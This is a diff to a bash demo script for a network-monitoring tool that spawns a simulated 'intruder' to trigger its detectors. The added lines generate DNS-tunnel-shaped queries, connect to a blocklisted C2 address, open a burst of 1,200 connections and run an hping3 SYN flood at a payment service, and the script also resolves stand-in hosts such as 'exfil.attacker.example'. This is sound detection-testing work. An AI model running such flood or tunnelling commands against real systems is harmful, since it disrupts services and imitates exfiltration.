@@ -261,6 +261,21 @@ start_workloads() {
     --ports 1-100 "$(for n in "${NODES[@]}"; do if [ "$(field "$n" 0)" = node-2 ]; then field "$n" 3; fi; done)"
   spawn intruder-resolver "$PREFIX-intruder" "$NODE_BIN" "$WORKLOAD" resolve --name intruder --every 2500 \
     "exfil.attacker.example" "order-service.shop.$DOMAIN" "c2.botnet.invalid"
+  # Once each, after the scan: the other kinds of alert (`flowctl alerts`). Queries shaped like a
+  # DNS tunnel (dns-tunnel); a connection to the C2 address of scripts/demo-blocklist-ips.txt
+  # (blocklisted-ip); 1,200 short connections to payment-service (connection-rate: over 100/s
+  # across the 10 s window); a 2 s SYN burst at payment-service (syn-flood), with hping3.
+  local pay_ip
+  pay_ip=$(for p in "${PODS[@]}"; do if [ "$(field "$p" 0)" = payment-service-4b2a1 ]; then field "$p" 4; fi; done)
+  spawn intruder-tunnel "$PREFIX-intruder" "$NODE_BIN" "$WORKLOAD" tunnel --name intruder --after 20000 --queries 80 exfil.example
+  spawn intruder-c2 "$PREFIX-intruder" "$NODE_BIN" "$WORKLOAD" connect --name intruder --after 20000 --timeout 1000 10.10.99.1 443
+  spawn intruder-connect "$PREFIX-intruder" "$NODE_BIN" "$WORKLOAD" connect --name intruder --after 22000 --timeout 1000 \
+    --count 1200 --parallel 20 "$pay_ip" 8080
+  if command -v hping3 >/dev/null; then
+    spawn intruder-synflood "$PREFIX-intruder" bash -c "sleep 26; exec hping3 -q -S -p 8080 -i u200 -c 10000 $pay_ip"
+  else
+    log "hping3 not found: the demo raises no syn-flood alert (apt-get install hping3)"
+  fi
 }
 
 start_agent() {
@@ -269,8 +284,8 @@ start_agent() {
   [ -n "$ns" ] || die "no node named $name"
   rm -f "$RUN/$name.sock"
   local listen=(--listen-address "127.0.0.1:4244") blocklists=() f _lists
-  # The demo's own list; tests give theirs in FLOWCTL_DEMO_BLOCKLISTS (':'-separated).
-  IFS=':' read -ra _lists <<<"${FLOWCTL_DEMO_BLOCKLISTS:-$ROOT/scripts/demo-blocklist.txt}"
+  # The demo's own lists; tests give theirs in FLOWCTL_DEMO_BLOCKLISTS (':'-separated).
+  IFS=':' read -ra _lists <<<"${FLOWCTL_DEMO_BLOCKLISTS:-$ROOT/scripts/demo-blocklist.txt:$ROOT/scripts/demo-blocklist-ips.txt}"
   for f in "${_lists[@]}"; do [ -z "$f" ] || blocklists+=(--blocklist "$f"); done
   if [ -n "$TLS" ]; then
     local hostip
@@ -409,7 +424,9 @@ EOF
   done
   printf "Tear down with 'make demo-down'.\n"
   # Outside the list above: these run until Ctrl-C rather than printing and exiting.
-  printf "Alerts as the detectors raise and update them (the intruder scans its node each minute):\n  ./bin/flowctl alerts%s --follow\n" "$s"
+  printf "Alerts as the detectors raise and update them (in its first 30 s the intruder scans its node,\n"
+  printf "tunnels DNS, calls a listed C2 address, opens connections fast and SYN-floods payment-service):\n"
+  printf "  ./bin/flowctl alerts%s --follow\n" "$s"
   printf "The service map and live flows in a browser:\n  ./bin/flowctl ui%s   # then open http://127.0.0.1:12000/\n\n" "$s"
 }
 
